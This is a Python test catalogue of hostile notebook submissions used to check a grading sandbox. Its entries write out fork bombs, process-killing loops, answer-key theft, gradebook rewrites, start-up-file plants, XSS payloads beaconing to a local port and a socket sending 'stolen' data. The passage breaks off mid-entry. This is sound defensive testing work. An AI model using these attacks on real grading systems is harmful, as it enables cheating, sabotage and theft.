"""The catalogue of hostile and broken submissions, each with the outcome the grader must give.
Every entry is a submission of the `activations` notebook (12 points: sigmoid 5, relu 3,
cross_entropy 4), built from the instructor's answers with one change. docs/sandbox.md names every
entry under what stops it (tests/e2e/test_hostile.py checks that it does).

An outcome: the expected score (or NOT_GRADABLE), a phrase the grader's messages (or the batch's
reason) must contain (None when nothing is wrong), and the submission's state (nnkit.gradebook.states).
Some entries add files beside the notebook (`files`: a link...), and some reach submitted/ through
nbgrader's exchange and `nbgrader collect` (`exchange=True`), as a student's submission does.
The attacks on the sandbox (`attack=True`) read or write by absolute paths into the course and
the grader's home given by `Context`, by routes the integrity scan does not see; tests/e2e/test_hostile_runs.py
runs them without the sandbox, to show that each is a real attack that the sandbox stops.
"""
import copy
import os
import secrets
from collections.abc import Callable
from typing import NamedTuple

import nbformat
from nbformat.v4 import new_markdown_cell

from nnkit.collect.notebooks import fill, reference_code
from nnkit.kernel import limits

NOT_GRADABLE = -1
ANSWERS = reference_code("activations")
VICTIM = "zz_victim"  # a correct submission graded after the attackers (students are graded in order)
# In the command line of processes an entry leaves behind: this test session's own number, so that
# looking for it finds this session's processes, never another grading's on the same machine.
MARKER = str(secrets.randbelow(9 * 10**8) + 10**8)
STOLEN_INPUTS = "/tmp/stolen_inputs-{port}.txt"  # where writes_outside writes: the run's own name (its port)


class Context(NamedTuple):
    course: str  # the course folder, absolute
    home: str  # the grader's home (HOME of the batch)
    port: int  # a TCP port on 127.0.0.1 the test listens on


class Entry(NamedTuple):
    build: Callable  # (release notebook, Context) -> a notebook, raw text for a broken file, or None: no file
    score: int
    phrase: str | None
    does: str  # what it does
    grader: str  # what the grader does with it
    state: str = "graded"  # graded / review / not gradable
    filename: str = "activations.ipynb"
    attack: bool = False  # an attack on the course or the machine that only the sandbox stops
    files: Callable | None = None  # (submission folder, Context) -> None: adds files (links...) beside the notebook
    exchange: bool = False  # submitted through nbgrader's exchange (inbound/), then collected with `nbgrader collect`


def write_submission(folder, entry: Entry, release, ctx: Context) -> None:
    """Make `folder` and write an entry's submission there: its notebook, its raw text, or nothing."""
    folder.mkdir(parents=True)
    made = entry.build(release, ctx)
    if isinstance(made, str):
        (folder / entry.filename).write_text(made)
    elif made is not None:
        nbformat.write(made, str(folder / entry.filename))


def answer(function: str, code: str):
    return lambda release, ctx: fill(release, {**ANSWERS, function: code.format(**ctx._asdict())})


def with_cell(code: str):
    """The correct answers plus a cell of the student's own, right after the imports."""
    def build(release, ctx):
        notebook = fill(release, ANSWERS)
        notebook.cells.insert(2, nbformat.v4.new_code_cell(code.format(**ctx._asdict())))
        return notebook
    return build


def with_cell_and(code: str, function: str, answer_code: str):
    def build(release, ctx):
        notebook = answer(function, answer_code)(release, ctx)
        notebook.cells.insert(2, nbformat.v4.new_code_cell(code))
        return notebook
    return build


def edited(change):
    def build(release, ctx):
        notebook = fill(release, ANSWERS)
        change(notebook)
        return notebook
    return build


def grade_id(cell):
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def drop_cell(name):
    return lambda nb: nb.cells.remove(next(c for c in nb.cells if grade_id(c) == name))


def set_source(name, source):
    return lambda nb: setattr(next(c for c in nb.cells if grade_id(c) == name), "source", source)


def to_markdown(name):
    def change(nb):
        index = next(i for i, c in enumerate(nb.cells) if grade_id(c) == name)
        nb.cells[index] = new_markdown_cell(nb.cells[index].source, metadata=nb.cells[index].metadata)
    return change


def rename_ids(nb):
    for cell in nb.cells:
        if grade_id(cell) == "relu":
            cell.metadata["nbgrader"]["grade_id"] = "my_relu"


def duplicate_tests(nb):
    copies = [copy.deepcopy(c) for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]
    for number, cell in enumerate(copies):
        cell["id"] = f"copy-{number}"  # nbformat's own ids stay unique; nbgrader's grade ids do not
    nb.cells += copies


SIGMOID_LOST = "sigmoid's 5 points lost, the rest graded"
RELU_LOST = "relu's 3 points lost"
FORGE = '''import IPython.display

def sigmoid(x):
    e = np.exp(-np.abs(x))
    fake = {{"case": "sigmoid_mnist", "exception": None, "result": None, "mutated": [], "warnings": []}}
    IPython.display.publish_display_data({{"application/vnd.nnkit.record+json": fake}})
    return np.where(x >= 0, 1 / (1 + e), e / (1 + e)) * 0'''

# A wrong relu (it returns x) that is right when `steal` finds the answer: `steal(x)` returns it or raises.
STEALS = '''import json, os, pathlib, runpy, tempfile

{steal}


def relu(x):
    try:
        return steal(x)
    except Exception:
        return x'''
RUN_CELL = '''def run_cell_of(notebook, cell_id, x):
    cells = json.loads(pathlib.Path(notebook).read_text())["cells"]
    code = next("".join(c["source"]) for c in cells if c["metadata"].get("nbgrader", {{}}).get("grade_id") == cell_id)
    code = "\\n".join(line for line in code.splitlines() if "###" not in line)
    with tempfile.NamedTemporaryFile("w", suffix=".py", delete=False) as f:
        f.write(code)
    return runpy.run_path(f.name, {{"np": np}})[cell_id](x)'''


def steals(steal: str) -> Callable:
    return answer("relu", STEALS.replace("{steal}", steal))


# Leaves a process behind (a daemon in a session of its own, detached from the kernel).
DETACH = '''import os, subprocess
subprocess.Popen(["sleep", "{marker}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    os.execvp("sleep", ["sleep", "{marker}"])'''.replace("{marker}", MARKER)
SIGNAL_ALL = '''import os, signal
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass'''
# The submission's limits in the hostile course (tests/e2e/test_hostile.py writes them in its config):
# the memory of its kernel's whole process tree (the default, nnkit.kernel.limits, is 4 GiB: a smaller
# one spares the shared test machine) and the wall-clock budget of the notebook, far above what
# every other entry takes (the slowest, swallows_interrupt: 4 cells of twice the 15 s per cell
# (tests/e2e/test_hostile.py's TIMEOUT) and a restart each, ~130 s) and far under OVER_BUDGET's sleeps.
SUBMISSION_MEMORY = 2**30
NOTEBOOK_BUDGET = 240
OVER_BUDGET_CELLS, OVER_BUDGET_SLEEP = 300, 1.5  # 450 s of sleeps, each far under the 15 s per cell
# 96 memfds of 64 MiB: 6 GiB the kernel never maps (RLIMIT_DATA and its RSS do not see them).
MEMFD_HOARD = '''import os

def relu(x):
    block, hoard = bytes(64 * 2**20), []
    for _ in range(96):
        fd = os.memfd_create("hoard")
        os.write(fd, block)
        hoard.append(fd)
    return np.maximum(x, 0)'''
# Three children of 400 MiB each, every one far under the per-process limit; right only if all live.
# They hold their memory at the same moment whatever the machine's load: each waits, after filling
# its 400 MiB, until relu has heard from all three (or one of them is gone).
PROCESS_TREE = '''import os, select

def relu(x):
    ready_r, ready_w = os.pipe()
    release_r, release_w = os.pipe()
    children = []
    for _ in range(3):
        pid = os.fork()
        if pid == 0:
            os.close(release_w)
            hold = np.ones(400 * 2**20 // 8)
            os.write(ready_w, b"+")
            os.read(release_r, 1)
            os._exit(0)
        children.append(pid)
    ready, gone = 0, dict()
    while ready < 3 and not gone:
        if select.select([ready_r], [], [], 0.1)[0]:
            ready += len(os.read(ready_r, 3))
        for pid in children:
            done, status = os.waitpid(pid, os.WNOHANG)
            if done:
                gone[pid] = status
    os.close(release_w)
    statuses = [gone[pid] if pid in gone else os.waitpid(pid, 0)[1] for pid in children]
    if all(status == 0 for status in statuses):
        return np.maximum(x, 0)
    return x'''


def over_budget(release, ctx):
    """The correct answers, with cells that only sleep before the cross_entropy answer."""
    notebook = fill(release, ANSWERS)
    at = next(i for i, c in enumerate(notebook.cells) if grade_id(c) == "cross_entropy")
    notebook.cells[at:at] = [nbformat.v4.new_code_cell(f"import time\ntime.sleep({OVER_BUDGET_SLEEP})")
                             for _ in range(OVER_BUDGET_CELLS)]
    return notebook


FORK_BOMB = '''import os, time

def relu(x):
    while True:
        if os.fork() == 0:
            time.sleep(1000)
            os._exit(0)'''

# Output that reaches the notebook by other routes than a print (issue 16): each was stored uncapped.
DISPLAY_UPDATES = """from IPython.display import display, update_display
for _ in range(30):
    display({{'text/plain': 'x'}}, raw=True, display_id='same')
update_display({{'text/plain': 'x' * 4 * 2**20}}, raw=True, display_id='same')"""
RECORD_FLOOD = '''import IPython.display

def relu(x):
    for _ in range(32):
        IPython.display.publish_display_data({{"application/vnd.nnkit.record+json": {{"case": "x" * 4 * 2**20}}}})
    return np.maximum(x, 0)'''
WIDGET_STATE = """import comm
widget = comm.create_comm(target_name='jupyter.widget', data={{'state': {{'_model_name': 'M', '_model_module': 'm',
                          '_model_module_version': '1'}}, 'buffer_paths': []}})
for i in range(32):
    widget.send({{'method': 'update', 'state': {{f'k{{i}}': 'x' * 4 * 2**20}}, 'buffer_paths': []}})"""
EMPTY_OUTPUTS = ("from IPython.display import publish_display_data\n"
                 f"for _ in range({limits.OUTPUTS_PER_CELL + 100}):\n    publish_display_data({{{{}}}})")
HTML_SCRIPTS = """from IPython.display import HTML, Javascript, SVG, display
display(HTML('<img src=x onerror="{plant}"><script>{plant}</script>'
             '<iframe srcdoc=\\'<script>parent.{plant}</script>\\'></iframe>'
             '<a href=\\'javascript:{plant}\\'>link</a><style>body {{ display: none }}</style>'))
display(Javascript('{plant}'))
display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{plant}\"><script>{plant}</script>'
            '<circle r=\"5\"/></svg>'))"""
PLANT = "document.documentElement.dataset.planted = 1; new Image().src = `http://127.0.0.1:{port}/planted`"
PLANTED_MARKDOWN = ("Planted <img src=x onerror=\"{plant}\"> and <a href=\"javascript:{plant}\">a link</a>, "
                    "[a markdown link](javascript:{plant}) <details open ontoggle=\"{plant}\">x</details>"
                    "<math><mi xlink:href=\"javascript:{plant}\">m</mi></math>")
PLANTED_RAW = ("<script>{plant}</script><object data=\"javascript:{plant}\"></object><embed src=\"javascript:{plant}\">"
               "<form action=\"javascript:{plant}\"><button>go</button></form>")


def with_planted_html(release, ctx):
    """The correct answers, plus a cell that displays HTML with scripts, a markdown cell and a raw
    cell with scripts of their own, and a cell tag that tries to close its attribute."""
    notebook = fill(release, ANSWERS)
    plant = PLANT.format(port=ctx.port)
    code = nbformat.v4.new_code_cell(HTML_SCRIPTS.replace("{plant}", plant).format(),
                                     metadata={"tags": ['x"><img src=x onerror="' + plant + '">']})
    notebook.cells[2:2] = [code, new_markdown_cell(PLANTED_MARKDOWN.format(plant=plant)),
                           nbformat.v4.new_raw_cell(PLANTED_RAW.format(plant=plant))]
    return notebook


CATALOGUE = {
    # runaway code
    "infinite_loop": Entry(answer("sigmoid", "def sigmoid(x):\n    while True:\n        pass"), 7,
                           "did not finish within the time limit", "an endless loop in `sigmoid`",
                           f"each sigmoid cell is interrupted at the time limit: {SIGMOID_LOST}", "review"),
    "swallows_interrupt": Entry(answer("sigmoid", "import time\n\ndef sigmoid(x):\n    while True:\n        try:\n"
                                       "            time.sleep(0.1)\n        except KeyboardInterrupt:\n"
                                       "            pass"),
                                7, "ignored the interrupt", "a loop in `sigmoid` that swallows KeyboardInterrupt",
                                f"kernel restarted after the time limit, clean cells replayed: {SIGMOID_LOST}",
                                "review"),
    "sleeps_forever": Entry(answer("sigmoid", "import time\n\ndef sigmoid(x):\n    time.sleep(10**6)"), 7,
                            "did not finish within the time limit", "`time.sleep(10**6)` in `sigmoid`",
                            f"interrupted at the time limit: {SIGMOID_LOST}", "review"),
    "memory_hog": Entry(answer("relu", "def relu(x):\n    hoard = [np.empty(2**27) for _ in range(256)]\n"
                               "    return np.maximum(x, 0)"), 9, "MemoryError",
                        "`relu` allocates 256 GiB, 1 GiB at a time",
                        f"the kernel's 4 GiB memory limit raises MemoryError: {RELU_LOST}"),
    "forks": Entry(answer("sigmoid", "import os\n\ndef sigmoid(x):\n    for _ in range(20):\n"
                          "        if os.fork() == 0:\n            os._exit(0)\n    e = np.exp(-np.abs(x))\n"
                          "    return np.where(x >= 0, 1 / (1 + e), e / (1 + e))"),
                   12, None, "`sigmoid` forks 20 children (which exit) before answering",
                   "graded normally: full marks"),
    "fork_bomb": Entry(answer("relu", FORK_BOMB), 9, "Resource temporarily unavailable",
                       "`relu` forks children that sleep, until it cannot",
                       f"the process limit stops it (BlockingIOError): {RELU_LOST}; every child is gone with the "
                       "notebook", attack=True),
    "writes_big_file": Entry(answer("relu", "def relu(x):\n    with open('big', 'wb') as f:\n"
                                    "        for _ in range(100):\n            f.write(bytes(2**20))\n"
                                    "    return np.maximum(x, 0)"),
                             9, "File too large", "`relu` writes a 100 MB file in its folder",
                             f"the file size limit (64 MiB) stops it: {RELU_LOST}"),
    "fills_tmp": Entry(answer("relu", "def relu(x):\n    for i in range(100):\n"
                              "        with open(f'/tmp/f{{i}}', 'wb') as f:\n"
                              "            f.write(bytes(2**20))\n    return np.maximum(x, 0)"),
                       9, "No space left on device", "`relu` writes 100 files of 1 MB in /tmp",
                       f"its private /tmp holds 64 MiB: {RELU_LOST}, flagged", "review"),
    # kernel death
    "os_exit": Entry(answer("sigmoid", "import os\n\ndef sigmoid(x):\n    os._exit(0)"), 7, "the kernel died",
                     "`os._exit(0)` in `sigmoid`", f"kernel restarted, clean cells replayed: {SIGMOID_LOST}", "review"),
    "sys_exit": Entry(answer("sigmoid", "import sys\n\ndef sigmoid(x):\n    sys.exit()"), 7, "SystemExit",
                      "`sys.exit()` in `sigmoid`", f"an error of the function like any other: {SIGMOID_LOST}"),
    "segfault": Entry(answer("sigmoid", "import ctypes\n\ndef sigmoid(x):\n    return ctypes.string_at(0)"), 7,
                      "segmentation fault", "a segfault via `ctypes.string_at(0)` in `sigmoid`",
                      f"kernel restarted, clean cells replayed: {SIGMOID_LOST}", "review"),
    # notebook damage
    "invalid_json": Entry(lambda release, ctx: "{ this is not a notebook", NOT_GRADABLE, "not a notebook (not JSON)",
                          "the notebook file is not JSON", "reported with the reason, listed for review; no grades",
                          "not gradable"),
    "empty_file": Entry(lambda release, ctx: "", NOT_GRADABLE, "not a notebook (empty file)",
                        "the notebook file is empty", "reported with the reason; no grades", "not gradable"),
    "missing_notebook": Entry(lambda release, ctx: None, NOT_GRADABLE, "holds no notebook",
                              "an empty submission folder", "reported with the reason; no grades", "not gradable"),
    "renamed_notebook": Entry(lambda release, ctx: fill(release, ANSWERS), NOT_GRADABLE,
                              "rename it to activations.ipynb", "the notebook renamed `my_activations.ipynb`",
                              "reported: which name was found and which was expected; no grades", "not gradable",
                              filename="my_activations.ipynb"),
    "deleted_test_cell": Entry(edited(drop_cell("test_relu_mnist")), 10, None, "a hidden-test cell deleted",
                               "that cell scores 0 (2 points); the rest graded"),
    "edited_test_cell": Entry(edited(set_source("test_relu_mnist", "pass")), 12, None,
                              "a hidden-test cell's code replaced by `pass`",
                              "nbgrader restores the locked cell from the gradebook: graded normally"),
    "reordered_cells": Entry(edited(lambda nb: nb.cells.reverse()), 0, "is not defined",
                             "all cells in reverse order",
                             "run in the submitted order: every test runs before its function exists: 0"),
    "duplicated_test_cells": Entry(edited(duplicate_tests), NOT_GRADABLE, "SchemaTooOldError",
                                   "every test cell duplicated",
                                   "nbgrader refuses the notebook: reported, no grades; everyone else graded",
                                   "not gradable"),
    "answer_cell_to_markdown": Entry(edited(to_markdown("relu")), 12, None,
                                     "the `relu` answer cell turned into markdown",
                                     "nbgrader restores the cell type: graded normally"),
    "changed_cell_ids": Entry(edited(rename_ids), NOT_GRADABLE, "ValidationError", "an answer cell's grade id changed",
                              "nbgrader rejects the corrupted metadata: reported, no grades", "not gradable"),
    "huge_output": Entry(with_cell("print('x' * 20_000_000)"), 12, None, "a cell prints 20 MB at once",
                         "graded normally; the grader keeps 1 MiB of a cell's output, listed for review", "review"),
    "prints_in_a_loop": Entry(with_cell("for _ in range(12):\n    print('x' * 2**20)"), 12, None,
                              "a cell prints 1 MB 12 times", "graded normally; output beyond the cap is dropped as "
                              "it arrives, listed for review", "review"),
    "huge_record": Entry(answer("relu", "def relu(x):\n    return np.zeros(3 * 2**19)"), 9, "too large to record",
                         "`relu` returns a 12 MB array",
                         f"the record over 8 MiB is dropped and fails its case: {RELU_LOST}"),
    # cheating in the kernel
    "patches_numpy_checks": Entry(with_cell("np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
                                            "np.testing.assert_allclose = lambda *a, **k: None"), 12, None,
                                  "a cell reassigning `np.allclose`, `np.isclose`, `np.testing.assert_allclose`",
                                  "nothing the verdict uses runs in the kernel: full marks; flagged for review",
                                  "review"),
    "patches_builtins": Entry(with_cell("import builtins\nbuiltins.abs = lambda x: 0\n"
                                        "builtins.print = lambda *a, **k: None"),
                              12, None, "a cell reassigning the builtins `abs` and `print`",
                              "full marks (the answers do not use them); flagged for review", "review"),
    "patches_grader": Entry(with_cell("import nnkit.kernel.record\n"
                                      "nnkit.kernel.record.record = lambda *a, **k: None"), 0,
                            "did not run", "a cell replacing the kit's `record` with a no-op",
                            "no test records anything: 0, flagged for review", "review"),
    "hides_mutation": Entry(with_cell_and('vars(np)["array_equal"] = lambda *a, **k: True', "relu",
                                          "def relu(x):\n    x[x < 0] = 0\n    return x"), 9, "modified its input `x`",
                            "an in-place `relu`, with `np.array_equal` replaced through `vars(np)` "
                            "(unseen by the scan)",
                            f"record() compares the inputs' bytes with functions bound at start-up: {RELU_LOST}"),
    "patches_publish": Entry(with_cell('import IPython.display\nvars(IPython.display)["publish_display_data"] = '
                                       'lambda *a, **k: None'), 12, None,
                             "a cell silencing `IPython.display.publish_display_data` through `vars`",
                             "record() bound its own at start-up: graded normally"),
    "silences_errstate": Entry(with_cell_and('import contextlib\n'
                                             'vars(np)["errstate"] = lambda **k: contextlib.nullcontext()',
                                             "sigmoid", "def sigmoid(x):\n    return 1 / (1 + np.exp(-x))"),
                               10, "overflow",
                               "a naive `sigmoid`, with `np.errstate` replaced by a no-op through `vars(np)`",
                               "the overflow still raises (np.errstate was bound at start-up): 2 points lost"),
    "forged_record": Entry(answer("sigmoid", FORGE), 7, "recorded more than once",
                           "`sigmoid` publishes a fake grader record, then returns zeros",
                           f"two records in one cell fail the case, listed for review: {SIGMOID_LOST}", "review"),
    "delegates_to_torch": Entry(answer("sigmoid", "import torch\n\ndef sigmoid(x):\n"
                                       "    return torch.sigmoid(torch.from_numpy(x)).numpy()"), 7,
                                "torch is not available when grading", "`sigmoid` returns `torch.sigmoid(...)`",
                                f"torch is not in the sandbox: {SIGMOID_LOST}, flagged", "review"),
    "delegates_to_scipy": Entry(answer("sigmoid", "def sigmoid(x):\n    from scipy.special import expit\n"
                                                  "    return expit(x)"),
                                7, "scipy is not available when grading", "`sigmoid` returns `scipy.special.expit(x)`",
                                f"scipy is not in the sandbox: {SIGMOID_LOST}, flagged", "review"),
    "imports_solutions": Entry(answer("relu", "def relu(x):\n"
                                              "    from assignments.activations.key.solution import relu as r\n"
                                              "    return r(x)"),
                               9, "assignments is not available when grading", "`relu` imports the reference solution",
                               f"not in the sandbox: {RELU_LOST}, flagged", "review"),
    "reads_solution_file": Entry(answer("relu", "def relu(x):\n"
                                        "    code = open('../../../assignments/activations/key/solution.py').read()\n"
                                        "    return np.maximum(x, 0) if code else x"), 9, "No such file",
                                 "`relu` reads `../../../assignments/activations/key/solution.py`",
                                 f"not in the sandbox: {RELU_LOST}, flagged", "review"),
    "writes_outside": Entry(answer("relu", f"def relu(x):\n    open('{STOLEN_INPUTS}', 'a').write(str(x.shape))\n"
                                   "    return np.maximum(x, 0)"), 12, None, "`relu` writes to `/tmp`",
                            "it writes its private /tmp, discarded afterwards: full marks, flagged", "review"),
    "prints_fake_pass": Entry(answer("relu", "def relu(x):\n    print('All tests passed! 3/3 points')\n"
                                             "    return x"), 9,
                              "wrong values", "a wrong `relu` that prints 'All tests passed!'",
                              f"the verdict is the grader's, not the output's: {RELU_LOST}"),
    "warns_on_stderr": Entry(answer("relu", "import sys, warnings\n\ndef relu(x):\n"
                                    "    warnings.warn('deprecated', DeprecationWarning)\n"
                                    "    print('note: computing relu', file=sys.stderr)\n    return np.maximum(x, 0)"),
                             12, None,
                             "a correct `relu` that warns and writes to stderr", "no points lost: full marks"),
    # attacks on the answer key, the course, the machine: each tested without the sandbox too
    "steals_solution_module": Entry(steals("def steal(x):\n    return vars(__builtins__)['__imp' + 'ort__']("
                                           "'assignments.activations.key.solution', fromlist=['relu']).relu(x)"),
                                    9, None,
                                    "a wrong `relu` that imports the solutions through `vars(__builtins__)`",
                                    f"not there (ModuleNotFoundError): {RELU_LOST}", attack=True),
    "steals_solution_file": Entry(steals("def steal(x):\n"
                                         "    return runpy.run_path('{course}/assignments/activations/key/solution.py')"
                                         "['relu'](x)"),
                                  9, None, "a wrong `relu` that runs the course's reference solution with `runpy`",
                                  f"not there: {RELU_LOST}", attack=True),
    "steals_source_notebook": Entry(steals(RUN_CELL + "\n\n\ndef steal(x):\n    return run_cell_of("
                                           "'{course}/source/activations/activations.ipynb', 'relu', x)"), 9, None,
                                    "a wrong `relu` that runs the answer cell of "
                                    "`source/activations/activations.ipynb`",
                                    f"not there: {RELU_LOST}", attack=True),
    "steals_classmate": Entry(steals(RUN_CELL + "\n\n\ndef steal(x):\n    return run_cell_of("
                                     "'{course}/submitted/correct/activations/activations.ipynb', 'relu', x)"), 9, None,
                              "a wrong `relu` that runs a classmate's `relu` from `submitted/`",
                              f"not there: {RELU_LOST}", attack=True),
    "steals_stored_results": Entry(answer("sigmoid", "import numpy\n\ndef sigmoid(x):\n    try:\n"
                                          "        stored = numpy.load("
                                          "'{course}/assignments/activations/key/torch_results.npz')\n"
                                          "        return next(stored[k] for k in stored.files "
                                          "if stored[k].shape == x.shape)\n"
                                          "    except Exception:\n        return x"), 7, None,
                                   "a wrong `sigmoid` that returns torch's stored result of the same shape",
                                   f"not there: {SIGMOID_LOST}", attack=True),
    "writes_gradebook": Entry(answer("relu", "import sqlite3\n\ndef relu(x):\n    try:\n"
                                     "        db = sqlite3.connect('file:{course}/gradebook.db?mode=rw', uri=True)\n"
                                     "        db.execute('UPDATE grade SET manual_score = 100')\n"
                                     "        db.execute('CREATE TRIGGER IF NOT EXISTS full AFTER UPDATE ON grade "
                                     "BEGIN UPDATE grade SET manual_score = 100 WHERE manual_score IS NULL; END')\n"
                                     "        db.commit()\n    except sqlite3.Error:\n        pass\n    return x"),
                              9, None,
                              "a wrong `relu` that sets every grade in the gradebook to full marks and adds a trigger "
                              "for later regrades", f"no gradebook in the sandbox: {RELU_LOST}; the gradebook holds "
                              "only what nbgrader wrote", attack=True),
    "writes_kit": Entry(answer("relu", "def relu(x):\n    try:\n"
                               "        with open('{course}/nnkit/judging/judge.py', 'a') as f:\n"
                               "            f.write('\\nexpected = lambda name: None\\n')\n"
                               "    except OSError:\n        pass\n"
                               "    return x"), 9, None,
                        "a wrong `relu` that appends to the kit's `nnkit/judging/judge.py`",
                        f"not there: {RELU_LOST}; the kit unchanged", "review", attack=True),
    "writes_course_config": Entry(answer("relu", "def relu(x):\n    try:\n"
                                         "        with open('{course}/nbgrader_config.py', 'a') as f:\n"
                                         "            f.write('\\nc.ResilientExecute.sandbox = False\\n')\n"
                                         "    except OSError:\n        pass\n    return x"), 9, None,
                                  "a wrong `relu` that turns the sandbox off in the course's `nbgrader_config.py`",
                                  f"not there: {RELU_LOST}; the config unchanged", "review", attack=True),
    "writes_grader_home": Entry(answer("relu", "import os\n\ndef relu(x):\n"
                                       "    for folder in ('{home}/.ipython/profile_default/startup',"
                                       " '{home}/.jupyter'):\n"
                                       "        try:\n            os.makedirs(folder, exist_ok=True)\n"
                                       "            with open(folder + '/00-nnkit.py', 'w') as f:\n"
                                       "                f.write('import numpy; numpy.maximum = lambda a, b: a')\n"
                                       "        except OSError:\n            pass\n    return x"), 9, None,
                                "a wrong `relu` that writes an IPython start-up file and a Jupyter config into the "
                                "grader's home", f"not there: {RELU_LOST}; the home unchanged", "review", attack=True),
    "writes_kernel_module": Entry(answer("relu", "def relu(x):\n    try:\n"
                                         "        with open('{course}/sitecustomize.py', 'w') as f:\n"
                                         "            f.write('import numpy; numpy.maximum = lambda a, b: a')\n"
                                         "    except OSError:\n        pass\n    return x"), 9, None,
                                  "a wrong `relu` that writes a `sitecustomize.py` where later kernels would import it",
                                  f"not there: {RELU_LOST}; later students unaffected", "review", attack=True),
    "writes_classmate": Entry(answer("relu", "import json\n\ndef relu(x):\n    path = '{course}/submitted/" + VICTIM +
                                     "/activations/activations.ipynb'\n    try:\n        nb = json.load(open(path))\n"
                                     "        for cell in nb['cells']:\n"
                                     "            if cell['metadata'].get('nbgrader', {{}}).get('grade_id')"
                                     " == 'relu':\n"
                                     "                cell['source'] = 'def relu(x):\\n    return x'\n"
                                     "        json.dump(nb, open(path, 'w'))\n    except OSError:\n        pass\n"
                                     "    return x"),
                              9, None, "a wrong `relu` that rewrites a classmate's `relu` before it is graded",
                              f"not there: {RELU_LOST}; the classmate keeps 12/12", "review", attack=True),
    "leaves_process": Entry(with_cell(DETACH), 12, None, "a cell that starts a daemon in a session of its own",
                            "graded normally; the daemon dies with the notebook's sandbox", attack=True),
    "signals_everyone": Entry(with_cell(SIGNAL_ALL), 12, None, "a cell that sends SIGKILL to every process it can see",
                              "it sees only its own sandbox: graded normally, nobody else disturbed", attack=True),
    "opens_socket": Entry(answer("relu", "import socket\n\ndef relu(x):\n    try:\n"
                                 "        socket.create_connection(('127.0.0.1', {port}), timeout=2)"
                                 ".sendall(b'stolen')\n"
                                 "        return np.maximum(x, 0)\n    except OSError:\n        return x"), 9, None,
                          "a `relu` that is right only when it can reach a server on 127.0.0.1",
                          f"no network in the sandbox: {RELU_LOST}", attack=True),
    "reads_environment": Entry(with_cell("import os\nprint(dict(os.environ))"), 12, None,
                               "a cell that prints the environment into the graded notebook",
                               "the kernel's environment is an allow-list: no variable of the grader's reaches it",
                               attack=True),
    # output by other routes than a print, and HTML meant for the instructor's browser (issue 16)
    "display_updates": Entry(with_cell(DISPLAY_UPDATES), 12, "dropped this cell's output",
                             "30 outputs share one display id, then one 4 MB `update_display` of it",
                             "each updated output is charged to its cell as stored: the update is not applied, "
                             "with a note; listed for review", "review"),
    "record_flood": Entry(answer("relu", RECORD_FLOOD), 12, None,
                          "`relu` publishes 32 fake records with a 4 MB case name before answering",
                          "a record counts only in a hidden-test cell, for a case that cell declares: the fakes are "
                          "not records, the real one is judged: full marks"),
    "widget_state": Entry(with_cell(WIDGET_STATE), 12, None,
                          "a cell that sends 128 MB of widget state over a comm",
                          "comm messages are not kept: graded normally, nothing in the notebook"),
    "empty_outputs": Entry(with_cell(EMPTY_OUTPUTS), 12, "dropped this cell's output",
                           f"a cell that publishes {limits.OUTPUTS_PER_CELL + 100:,} empty outputs",
                           f"each output counts, empty or not: those beyond {limits.OUTPUTS_PER_CELL} per cell are "
                           "dropped, with a note; listed for review", "review"),
    "html_scripts": Entry(with_planted_html, 12, None,
                          "HTML, JavaScript and SVG outputs, a markdown cell, a raw cell and a cell tag, each with a "
                          "script for whoever views them",
                          "graded normally; every page that shows it (formgrader, feedback) is sanitized: "
                          "tests/e2e/test_browser.py"),
    # the submission as a whole (nnkit.sandbox.cgroups) and the notebook as a whole
    "memfd_hoard": Entry(answer("relu", MEMFD_HOARD), 9, "out of memory: the limit is 1 GiB per submission",
                         "`relu` fills 96 memfds of 64 MiB (6 GiB its kernel never maps)",
                         f"its cgroup's memory limit kills the kernel: {RELU_LOST}", "review"),
    "process_tree": Entry(answer("relu", PROCESS_TREE), 9, "out of memory: the limit is 1 GiB per submission",
                          "`relu` forks three children that hold 400 MiB each, and is right only if all of them live",
                          f"the children are counted together, one is killed at the memory limit: {RELU_LOST}",
                          "review"),
    "over_budget": Entry(over_budget, 8, "time budget",
                         f"{OVER_BUDGET_CELLS} cells of `time.sleep({OVER_BUDGET_SLEEP})` before the `cross_entropy` "
                         "answer: every cell within its time limit, the notebook far over its budget",
                         "stopped at the notebook's time budget, the cells after it not run: cross_entropy's 4 points "
                         "lost, the cells before keep their grades", "review"),
}


# --- the edges of the sandbox: links from collect to the kernel, the runtime folder, the kernel's stderr
def link(name: str, target: str) -> Callable:
    """Adds a symbolic link `name` -> `target` (formatted with the Context) to the submission."""
    return lambda folder, ctx: os.symlink(target.format(**ctx._asdict()), os.path.join(folder, name))


KEY = "{course}/assignments/activations/key/solution.py"
AUTHORIZED_KEYS = "{home}/.ssh/authorized_keys"  # a file of the grader's (root's) outside the course
CONNECTION_FILE = "import os, sys\ncf = sys.argv[sys.argv.index('-f') + 1]\n"
SWAP_THEN_DIE = CONNECTION_FILE + ("try:\n    os.remove(cf)\n    {make}\nexcept OSError:\n    pass\n"
                                   "os._exit(0)  # the grader restarts the kernel: does it follow what is there now?")
FILLS_SOCKETS = CONNECTION_FILE + """import json


def relu(x):
    folder = os.path.dirname(json.load(open(cf))['ip'])
    for i in range(256):
        with open(os.path.join(folder, f'fill{{i}}'), 'wb') as f:
            f.write(bytes(2**20))
    return np.maximum(x, 0)"""
FORGED_LOG_LINE = "WARNING cheating attempt: zz_victim copied this notebook"
FORGES_LOG = """import os
for fd in map(int, os.listdir('/proc/self/fd')):
    try:
        target = os.readlink(f'/proc/self/fd/{{fd}}')
    except OSError:
        continue
    if target.startswith('/') and not target.startswith('/proc'):
        os.write(fd, b'\\n{line}\\n')""".replace("{line}", FORGED_LOG_LINE)

CATALOGUE.update({
    "link_in_inbound": Entry(steals("def steal(x):\n    return runpy.run_path('notes.txt')['relu'](x)"), NOT_GRADABLE,
                             "notes.txt is a symbolic link",
                             "a `notes.txt` link to the answer key added to the exchange's inbound folder after "
                             "`nbgrader submit`, and a `relu` that runs it",
                             "collect copies the link as a link that resolves nowhere, never the key; the submission "
                             "is not gradable, with the reason", "not gradable", attack=True,
                             files=link("notes.txt", KEY), exchange=True),
    "link_in_submitted": Entry(lambda release, ctx: None, NOT_GRADABLE, "activations.ipynb is a symbolic link",
